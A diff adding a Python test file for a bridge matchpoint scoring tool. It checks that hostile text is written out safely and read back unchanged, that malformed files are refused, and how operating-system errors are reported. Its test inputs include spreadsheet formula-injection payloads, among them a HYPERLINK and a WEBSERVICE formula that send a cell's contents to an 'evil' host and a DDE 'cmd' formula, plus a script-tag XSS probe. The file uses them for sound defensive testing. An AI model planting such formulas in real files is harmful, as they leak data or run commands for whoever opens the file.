@@ -1,0 +1,466 @@
+"""Nothing lost, nothing injected (issue 14): hostile text through every writer, silent losses refused,
+OS refusals as one-line messages. Tables of input and expected outcome."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from mpxl.cli import main
+from mpxl.event import Event, Line, Pair
+from mpxl.formats import read_event, write_event
+from mpxl.session import score_event
+
+#: Text a spreadsheet would take for a formula, or a writer for syntax (OWASP CSV injection and more).
+HOSTILE = [
+    "=2+5", "+1", "-x", "@SUM(A1)", '=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0",
+    'A"B', "<&>", "x'y", "'=q", "''+q", "#N/A", "back\\slash", "[Event", "{c}", "%p", ";s",
+]
+
+
+def hostile_event(text: str) -> Event:
+    """An event where the title, a section, both pairs' labels and a player's name are ``text``."""
+    lines = [Line(1, text, "2", text, 420, contract="4S", declarer="N", tricks=10),
+             Line(1, "3", "4", text, 400), Line(2, text, "4", text, -50), Line(2, "3", "2", text, 100)]
+    pairs = [Pair(text, text, "NS", (text, "Bob")), Pair("3", text, "NS", ("Ann", "Cy")),
+             Pair("2", text, "EW", ("Di", "Ed")), Pair("4", text, "EW", ("Fay", "Gus"))]
+    return Event(lines=lines, pairs=pairs, title=text, winners={text: 2}, source="hostile")
+
+
+def line_texts(ev: Event) -> list:
+    return sorted((ln.board, ln.section, str(ln.ns_pair), str(ln.ew_pair)) for ln in ev.lines)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("ext", [".csv", ".xml", ".pbn"])
+def test_hostile_text_reads_back_equal(text, ext, tmp_path):
+    ev = hostile_event(text)
+    out = tmp_path / f"out{ext}"
+    write_event(score_event(ev), out)
+    back = read_event(out)
+    assert line_texts(back) == line_texts(ev)
+    if ext != ".csv":  # the CSV holds no title
+        assert back.title == text
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_cells_are_neutralised(text, tmp_path):
+    out = tmp_path / "out.csv"
+    write_event(score_event(hostile_event(text)), out)
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    for row in rows[1:]:
+        for cell in row:
+            if cell and cell[0] in "=+-@\t\r":  # only numbers may start so (scores such as -50)
+                float(cell)
+
+
+def _xlsx_cells(path: Path) -> str:
+    with zipfile.ZipFile(path) as z:
+        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+@pytest.mark.parametrize("text", ["=2+5", '=WEBSERVICE("http://evil/?"&A1)', "@SUM(A1)", "#N/A", "+1", "-x"])
+@pytest.mark.parametrize("values_only", [False, True])
+def test_xlsx_holds_hostile_text_as_text(text, values_only, tmp_path, monkeypatch):
+    from openpyxl import load_workbook
+
+    from mpxl.commands import score as score_cmd
+    from mpxl.workbook import event_writer
+
+    if values_only:
+        monkeypatch.setattr(event_writer, "unsupported", lambda result: "forced for the test")
+    ev = hostile_event(text)
+    ev.pairs = [Pair(p.number, p.section, p.direction, p.names, p.session) for p in ev.pairs]
+    out = tmp_path / "out.xlsx"
+    score_cmd.write_output(score_event(ev), str(out))
+    wb = load_workbook(out)
+    found = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == text]
+    assert found, "the text is in the workbook"
+    assert all(c.data_type == "s" for c in found)
+    if text.startswith("="):
+        assert f"<f>{text[1:]}" not in _xlsx_cells(out)
+
+
+@pytest.mark.parametrize("ext, text, message", [
+    (".xlsx", "a\x01b", "U+0001"),
+    (".xml", "a\x01b", "U+0001"),
+    (".pbn", "A\nB", "U+000A"),
+    (".pbn", "A\rB", "U+000D"),
+])
+def test_text_a_format_cannot_hold_is_refused_with_a_message(ext, text, message, tmp_path, capsys):
+    src = tmp_path / "in.csv"
+    src.write_text(f'board,ns_pair,ew_pair,section,ns_score\n1,"{text}",2,"{text}",420\n1,3,4,"{text}",400\n',
+                   encoding="utf-8")
+    out = tmp_path / f"out{ext}"
+    assert main(["score", str(src), "-o", str(out)]) == 2
+    err = capsys.readouterr().err
+    assert message in err and str(out) in err and "Traceback" not in err
+    assert not out.exists()
+    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]
+
+
+def test_section_with_a_quote_to_xml_is_well_formed(tmp_path):
+    out = tmp_path / "out.xml"
+    write_event(score_event(hostile_event('A"B')), out)
+    assert 'SECTION_ID="A&quot;B"' in out.read_text(encoding="utf-8")
+
+
+def test_html_escapes_hostile_text(tmp_path):
+    from mpxl.report_html import results_html
+
+    page = results_html(score_event(hostile_event('<script>alert("x")</script>')))
+    assert "<script>alert" not in page
+
+
+# ------------------------------------------------------------------ silent losses (items 1 and 2)
+
+PBN_HEAD = '[Event "x"]\n[Board "1"]\n[ScoreTable "PairId_NS\\2R;PairId_EW\\2R;Score_NS\\6R"]\n'
+
+
+@pytest.mark.parametrize("body, line, reason", [
+    (PBN_HEAD + '1 2 420\n\n3 4 400\n', "line 6", "after the empty line on line 5"),
+    (PBN_HEAD + '1 2 420\n\n\n5 6 400\n', "line 7", "after the empty line on line 5"),
+    (PBN_HEAD + '1 2 420\n\n{ note }\n5 6 400\n', "line 7", "after the empty line on line 5"),
+    (PBN_HEAD + '1 2 420\n[ScoreTable "PairId_NS\\2R;PairId_EW\\2R;Score_NS\\6R"]\n3 4 400\n', "line 5",
+     "a second ScoreTable in one game (the first is on line 3)"),
+    (PBN_HEAD + '1 2 420\n{ a note that never ends\n3 4 400\n', "line 5", "never closed"),
+    ('{ open\n' + PBN_HEAD + '1 2 420\n', "line 1", "never closed"),
+])
+def test_pbn_never_drops_rows_silently(body, line, reason, tmp_path, capsys):
+    src = tmp_path / "in.pbn"
+    src.write_text(body, encoding="utf-8")
+    assert main(["score", str(src)]) == 2
+    err = capsys.readouterr().err
+    assert f"{src}: {line}: " in err and reason in err, err
+
+
+@pytest.mark.parametrize("body, lines", [
+    (PBN_HEAD + '1 2 420\n3 4 400\n\n[Event "x"]\n[Board "2"]\n', 2),  # an empty line between games
+    (PBN_HEAD + '1 2 420\n{ a note\nover two lines }\n3 4 400\n', 2),  # a closed comment over lines
+    ('[Event "x"]\n[Board "1"]\n\n' + PBN_HEAD[12:] + '1 2 420\n', 1),  # a game of tags only, then one
+])
+def test_pbn_read_whole_where_the_standard_allows(body, lines, tmp_path):
+    src = tmp_path / "in.pbn"
+    src.write_text(body, encoding="utf-8")
+    assert len(read_event(src).lines) == lines
+
+
+@pytest.mark.parametrize("body, expected", [
+    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n1,3,4\n", "line 3: the row has 3 cells, the header names 4 (no ns_score)"),
+    ("board,ns_pair,ew_pair,ns_score\n1,3,4\n1,1,2,420\n", "line 2: the row has 3 cells"),
+    ("board;ns_pair;ew_pair;ns_score\n1;1;2;420\n1;3\n", "line 3: the row has 2 cells, the header names 4 (no ew_pair, ns_score)"),
+    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n1,3,4,400,7\n", "line 3: the row has 5 cells, the header names 4"),
+    ("board,ns_pair,ew_pair,ns_score,contract,declarer,tricks\n1,1,2,420\n", "line 2: the row has 4 cells"),
+])
+def test_csv_short_and_long_rows_are_refused(body, expected, tmp_path, capsys):
+    src = tmp_path / "in.csv"
+    src.write_text(body, encoding="utf-8")
+    assert main(["score", str(src)]) == 2
+    assert f"{src}: {expected}" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("body, lines", [
+    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n1,3,4,400,\n", 2),  # a blank cell past the header's end
+    ("board,ns_pair,ew_pair,ns_score,\n1,1,2,420\n1,3,4,400\n", 2),  # a blank header cell at the end
+    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n\n1,3,4,\n", 2),  # a blank row; a board not played
+])
+def test_csv_rows_that_lose_nothing_are_read(body, lines, tmp_path):
+    src = tmp_path / "in.csv"
+    src.write_text(body, encoding="utf-8")
+    assert len(read_event(src).lines) == lines
+
+
+# ------------------------------------------------------------------ weighted scores in n log n (item 6)
+
+from fractions import Fraction  # noqa: E402
+
+from hypothesis import given, settings, strategies as st  # noqa: E402
+
+from mpxl.matchpoints import weighted_matchpoints  # noqa: E402
+
+
+def quadratic_weighted(lines, scale=2):
+    """Law 12C1(c) as written: every component against every component of every other line."""
+    out = []
+    for i, mine in enumerate(lines):
+        if mine is None:
+            out.append(None)
+            continue
+        total = Fraction(0)
+        for j, theirs in enumerate(lines):
+            if j != i and theirs is not None:
+                for wa, a in mine:
+                    for wb, b in theirs:
+                        total += Fraction(wa) * Fraction(wb) * (2 if a > b else 1 if a == b else 0)
+        out.append(total * scale / 2)
+    return out
+
+
+_score = st.sampled_from([-200, -50, 0, 100, 400, 420, 430, 450])
+
+
+@st.composite
+def weighted_line(draw):
+    if draw(st.integers(0, 9)) == 0:
+        return None
+    k = draw(st.integers(1, 3))
+    cuts = sorted(draw(st.lists(st.integers(1, 99), min_size=k - 1, max_size=k - 1, unique=True)))
+    weights = [Fraction(b - a, 100) for a, b in zip([0] + cuts, cuts + [100])]
+    return tuple((w, draw(_score)) for w in weights)
+
+
+@settings(max_examples=200, deadline=None, derandomize=True, database=None)
+@given(st.lists(weighted_line(), max_size=12), st.sampled_from([1, 2]))
+def test_weighted_matchpoints_equal_the_quadratic_definition(lines, scale):
+    assert weighted_matchpoints(lines, scale) == quadratic_weighted(lines, scale)
+
+
+@pytest.mark.parametrize("lines, expected", [
+    ([((Fraction(3, 10), 420), (Fraction(7, 10), 450)), ((1, 430),), ((1, 450),)],
+     [Fraction(21, 10), Fraction(3, 5), Fraction(33, 10)]),
+    ([((Fraction(1, 2), 420), (Fraction(1, 2), 420)), ((1, 420),)], [Fraction(1), Fraction(1)]),
+    ([None, ((1, 100),)], [None, Fraction(0)]),
+])
+def test_weighted_matchpoints_table(lines, expected):
+    assert weighted_matchpoints(lines) == expected == quadratic_weighted(lines)
+
+
+# ------------------------------------------------------------------ the operating system's refusals (items 4, 9, 12)
+
+import errno  # noqa: E402
+import os  # noqa: E402
+import signal  # noqa: E402
+
+DATA = Path(__file__).parent / "data"
+CSV_IN = str(DATA / "club-howell.csv")
+
+
+def _commands(out: str) -> list:
+    return {
+        ".csv": ["score", CSV_IN, "-o", out], ".xml": ["score", CSV_IN, "-o", out],
+        ".pbn": ["score", CSV_IN, "-o", out], ".html": ["score", CSV_IN, "-o", out],
+        ".xlsx": ["score", CSV_IN, "-o", out], "template": ["template", "-o", out, "--tables", "3", "--boards", "3"],
+        "study": ["study", CSV_IN, "--trials", "2", "--remove", "1", "-o", out], "demo": ["demo", "-o", out],
+        "chart": ["methods", "9", "8", "--chart", out],
+    }
+
+
+WRITERS = [(".csv", "out.csv"), (".xml", "out.xml"), (".pbn", "out.pbn"), (".html", "out.html"), (".xlsx", "out.xlsx"),
+           ("template", "t.xlsx"), ("study", "study.json"), ("demo", "demo.xlsx"), ("chart", "chart.png")]
+
+
+def _run(command, out: Path, capsys) -> tuple:
+    code = main(_commands(str(out))[command])
+    err = capsys.readouterr().err
+    return code, err
+
+
+def _left(folder: Path) -> list:
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))
+
+
+def _raise(exc):
+    def fail(*args, **kwargs):
+        raise exc
+    return fail
+
+
+@pytest.mark.parametrize("command, name", WRITERS)
+@pytest.mark.parametrize("refusal, expected", [
+    ("disk full", "No space left on device"),
+    ("permission denied", "Permission denied"),
+    ("output is a folder", "is a folder"),
+    ("name too long", "File name too long"),
+    ("ctrl-c", "interrupted"),
+    ("sigterm", "terminated"),
+])
+def test_os_refusals_are_one_line_keep_the_old_file_and_leave_nothing(command, name, refusal, expected, tmp_path,
+                                                                      capsys, monkeypatch):
+    import mpxl.atomic as atomic
+
+    out = tmp_path / name
+    out.write_bytes(b"old")
+    real_replace = os.replace
+    if refusal == "disk full":
+        monkeypatch.setattr(atomic.os, "replace", _raise(OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))))
+    elif refusal == "permission denied":
+        monkeypatch.setattr(atomic.tempfile, "mkstemp", _raise(PermissionError(errno.EACCES, os.strerror(errno.EACCES))))
+    elif refusal == "output is a folder":
+        out.unlink()
+        out.mkdir()
+    elif refusal == "name too long":
+        out = tmp_path / ("x" * 300 + Path(name).suffix)
+    elif refusal == "ctrl-c":
+        monkeypatch.setattr(atomic.os, "replace", _raise(KeyboardInterrupt()))
+    elif refusal == "sigterm":
+        def kill_then_replace(a, b):
+            os.kill(os.getpid(), signal.SIGTERM)
+            real_replace(a, b)
+        monkeypatch.setattr(atomic.os, "replace", kill_then_replace)
+    code, err = _run(command, out, capsys)
+    assert code == {"ctrl-c": 130, "sigterm": 143}.get(refusal, 2), err
+    assert expected in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
+    if refusal != "name too long" and out.is_file():
+        assert out.read_bytes() == b"old"
+    assert _left(tmp_path) == []
+    assert signal.getsignal(signal.SIGTERM) is not None
+
+
+@pytest.mark.parametrize("command, name", WRITERS)
+def test_a_legal_249_character_name_is_written(command, name, tmp_path, capsys):
+    out = tmp_path / ("x" * (249 - len(Path(name).suffix)) + Path(name).suffix)
+    assert len(out.name) == 249
+    code, err = _run(command, out, capsys)
+    assert code == 0, err
+    assert out.stat().st_size > 0 and _left(tmp_path) == []
+
+
+def test_a_killed_run_s_temporary_files_are_removed_by_the_next_run(tmp_path, capsys):
+    dead = 2**22 + 12345  # above the kernel's default pid_max: no such process
+    leftovers = [f".mpxl-{dead}-abcdefgh.csv", f".mpxl-{dead}-abcd_fgh.xlsx.base-{dead}.xlsx"]
+    keep = [f".mpxl-{os.getpid()}-abcdefgh.csv", ".mpxl-notes.txt", ".hidden"]
+    for n in leftovers + keep:
+        (tmp_path / n).write_text("x")
+    assert main(["score", CSV_IN, "-o", str(tmp_path / "out.csv")]) == 0
+    assert _left(tmp_path) == sorted(keep)
+
+
+@pytest.mark.parametrize("argv, expected", [
+    (["methods", "9", "8", "--chart", "{d}/results.xml"], "refusing to write a chart to a '.xml' file"),
+    (["methods", "9", "8", "--chart", "{d}/chart.svg"], "expected a name ending in .png"),
+    (["template", "-o", "{d}/x.csv"], "refusing to write a workbook to a '.csv' file"),
+    (["demo", "-o", "{d}/x.pbn"], "refusing to write a workbook to a '.pbn' file"),
+    (["template", "--teaching", "-o", "{d}/x"], "refusing to write a workbook to a name without an extension"),
+    (["score", CSV_IN, "-o", "{d}/x.png"], "cannot write '.png'"),
+])
+def test_never_write_over_a_file_of_another_kind(argv, expected, tmp_path, capsys):
+    argv = [a.format(d=tmp_path) for a in argv]
+    target = Path(argv[-1])
+    target.write_bytes(b"precious")
+    assert main(argv) == 2
+    assert expected in capsys.readouterr().err
+    assert target.read_bytes() == b"precious"
+
+
+# ------------------------------------------------------------------ devices (item 8)
+
+@pytest.mark.parametrize("device, expected", [
+    ("/dev/zero", "a device, not a results file"),
+    ("/dev/urandom", "a device, not a results file"),
+    ("/dev/null", "a device, not a results file"),
+    ("fifo", "a FIFO (named pipe), not a results file"),
+    ("folder", "a folder, not a results file"),
+])
+@pytest.mark.parametrize("ext", [".csv", ".xml", ".pbn"])
+def test_devices_fifos_and_folders_are_refused_without_reading(device, expected, ext, tmp_path, capsys):
+    link = tmp_path / f"in{ext}"
+    if device == "fifo":
+        os.mkfifo(link)  # no writer: a plain open() would wait forever
+    elif device == "folder":
+        link.mkdir()
+    else:
+        link.symlink_to(device)
+    for argv in (["score", str(link)], ["check", str(link)], ["score", str(link), "-o", str(tmp_path / "o.csv")]):
+        assert main(argv) == 2
+        err = capsys.readouterr().err
+        assert f"{link}: {expected}" in err, err
+
+
+def test_the_cap_does_not_trust_the_size_on_disk(tmp_path, monkeypatch, capsys):
+    from mpxl.formats import common
+
+    monkeypatch.setattr(common, "READ_CAP", 100)
+    src = tmp_path / "in.csv"
+    src.write_text("board,ns_pair,ew_pair,ns_score\n" + "1,1,2,420\n" * 20)
+    assert main(["score", str(src)]) == 2
+    assert "larger than the" in capsys.readouterr().err
+
+
+# ------------------------------------------------------------------ messages with a place (item 10)
+
+@pytest.mark.parametrize("figure", ["nan", "inf", "-inf", "1e400", "4_2"])
+@pytest.mark.parametrize("fmt, body, place", [
+    ("csv", "board,ns_pair,ew_pair,ns_score,ns_mp,ew_mp\n1,1,2,420,2,0\n1,3,4,400,{f},2\n", "line 3"),
+    ("pbn", PBN_HEAD.replace('Score_NS\\6R"', 'Score_NS\\6R;MP_NS\\2R;MP_EW\\2R"') + "1 2 420 2 0\n3 4 400 {f} 2\n",
+     "line 5"),
+    ("xml", '<USEBIO Version="1.2"><EVENT><BOARD><BOARD_NUMBER>1</BOARD_NUMBER>'
+     "<TRAVELLER_LINE><NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER><SCORE>420</SCORE>"
+     "<NS_MATCH_POINTS>{f}</NS_MATCH_POINTS><EW_MATCH_POINTS>0</EW_MATCH_POINTS></TRAVELLER_LINE>"
+     "</BOARD></EVENT></USEBIO>", "BOARD 1, TRAVELLER_LINE 1"),
+])
+def test_check_names_the_place_of_a_figure_that_is_not_a_number(figure, fmt, body, place, tmp_path, capsys):
+    src = tmp_path / f"in.{fmt}"
+    src.write_text(body.replace("{f}", figure), encoding="utf-8")
+    assert main(["check", str(src)]) == 2
+    err = capsys.readouterr().err
+    assert f"{src}: {place}" in err and repr(figure) in err, err
+
+
+# ------------------------------------------------------------------ one validation for every reader (item 11)
+
+def _one_line_file(fmt: str, board: str, score: str) -> str:
+    if fmt == "csv":
+        return f"board,ns_pair,ew_pair,ns_score\n{board},1,2,{score}\n{board},3,4,400\n"
+    if fmt == "pbn":
+        return f'[Event "x"]\n[Board "{board}"]\n[ScoreTable "PairId_NS\\2R;PairId_EW\\2R;Score_NS\\6R"]\n' \
+               f"1 2 {score}\n3 4 400\n"
+    lines = "".join(f"<TRAVELLER_LINE><NS_PAIR_NUMBER>{ns}</NS_PAIR_NUMBER><EW_PAIR_NUMBER>{ew}</EW_PAIR_NUMBER>"
+                    f"<SCORE>{s}</SCORE></TRAVELLER_LINE>" for ns, ew, s in (("1", "2", score), ("3", "4", "400")))
+    return (f'<USEBIO Version="1.2"><EVENT><BOARD><BOARD_NUMBER>{board}</BOARD_NUMBER>{lines}</BOARD>'
+            "</EVENT></USEBIO>")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "pbn", "xml"])
+@pytest.mark.parametrize("board, score, expected", [
+    ("0", "420", "'0' is not a board number"),
+    ("-3", "420", "'-3' is not a board number"),
+    ("1" + "0" * 30, "420", "is not a board number"),
+    ("\u0661", "420", "is not a board number"),  # Arabic-Indic one
+    ("1", "420.5", "'420.5' is not a score"),
+    ("1", "1e300", "'1e300' is not a score"),
+    ("1", "99999", "'99999' is not a score: no contract gives more than 7600"),
+    ("1", "4_20", "'4_20' is not a score"),
+    ("1", "\u0664\u0662\u0660", "is not a score"),  # Arabic-Indic 420
+    ("1", "nan", "'nan' is not a score"),
+])
+def test_every_reader_refuses_the_same_boards_and_scores(fmt, board, score, expected, tmp_path, capsys):
+    src = tmp_path / f"in.{fmt}"
+    src.write_text(_one_line_file(fmt, board, score), encoding="utf-8")
+    for argv in (["score", str(src)], ["score", str(src), "-o", str(tmp_path / "o.csv")]):
+        assert main(argv) == 2
+        err = capsys.readouterr().err
+        assert expected in err and str(src) in err, err
+
+
+@pytest.mark.parametrize("fmt", ["csv", "pbn", "xml"])
+@pytest.mark.parametrize("score, warned", [("7", True), ("425", True), ("-7600", False), ("420", False),
+                                           ("0", False), ("-1100", False)])
+def test_a_score_no_contract_gives_is_warned_about(fmt, score, warned, tmp_path, capsys):
+    src = tmp_path / f"in.{fmt}"
+    src.write_text(_one_line_file(fmt, "1", score), encoding="utf-8")
+    for argv in (["score", str(src)], ["score", str(src), "-o", str(tmp_path / "o.csv")]):
+        assert main(argv) == 0
+        err = capsys.readouterr().err
+        assert (f"warning: score {score} is not a score any contract gives" in err) is warned, err
+
+
+@pytest.mark.parametrize("value, ok", [("1", True), ("2", True), (" 2 ", True), ("3", False), ("0", False),
+                                       ("two", False)])
+def test_usebio_winner_type(value, ok, tmp_path, capsys):
+    src = tmp_path / "in.xml"
+    src.write_text(_one_line_file("xml", "1", "420").replace("<EVENT>", f"<EVENT><WINNER_TYPE>{value}</WINNER_TYPE>"))
+    assert main(["score", str(src)]) == (0 if ok else 2)
+    if not ok:
+        assert f"{value!r} is not a WINNER_TYPE" in capsys.readouterr().err
+
+
+def test_an_option_is_checked_where_it_is_not_used(tmp_path, capsys):
+    src = tmp_path / "in.csv"
+    src.write_text(_one_line_file("csv", "1", "420"))  # no board fouled
+    for out in ([], ["-o", str(tmp_path / "o.csv")]):
+        assert main(["score", str(src), "--small-groups", "foo", *out]) == 2
+        assert "'foo' is not a small-group rule" in capsys.readouterr().err
